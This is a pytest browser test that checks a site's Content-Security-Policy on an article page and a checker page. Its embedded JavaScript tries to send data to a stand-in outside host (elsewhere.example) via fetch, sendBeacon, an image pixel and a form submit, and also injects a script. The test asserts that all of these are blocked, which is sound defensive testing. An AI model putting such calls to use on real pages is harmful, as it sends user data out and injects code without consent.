"""The browser enforces each page's Content-Security-Policy: a page that tried to send anything
to another host, load from one, submit a form or run a script that is not the site's own would
be stopped before a request is made. Checked on an article page and on the running checker."""
import pytest

from checker_steps import wait_ready

pytestmark = pytest.mark.browser

ATTEMPTS = """() => new Promise(resolve => {
  const seen = [];
  document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective));
  fetch('http://elsewhere.example/collect?a=1').catch(() => {});
  navigator.sendBeacon && (() => { try { navigator.sendBeacon('http://elsewhere.example/b', 'x'); } catch (e) {} })();
  new Image().src = 'http://elsewhere.example/pixel.png';
  const script = document.createElement('script');
  script.textContent = 'window.__injected = true';
  document.head.append(script);
  const form = document.createElement('form');
  form.action = 'http://elsewhere.example/send';
  document.body.append(form);
  form.submit();
  setTimeout(() => resolve(seen), 800);
})"""


@pytest.mark.parametrize("path", ["fasciculations/", "checker/"])
def test_nothing_can_leave_or_be_injected(make_page, server, path):
    page = make_page()
    failed = {}
    page.on("requestfailed", lambda r: failed.__setitem__(r.url, r.failure))
    page.goto(server.origin + "/" + path, wait_until="load")
    if path == "checker/":
        wait_ready(page)
    seen = set(page.evaluate(ATTEMPTS))
    assert {"connect-src", "img-src", "script-src-elem", "form-action"} <= seen
    assert page.evaluate("window.__injected") is None
    assert page.url == server.origin + "/" + path          # the form went nowhere
    # Chromium reports the image it refused; it was stopped by the policy, not by the network.
    foreign = page.log.foreign_requests(server.origin)
    assert {url: failed.get(url) for url in foreign} == {url: "csp" for url in foreign}
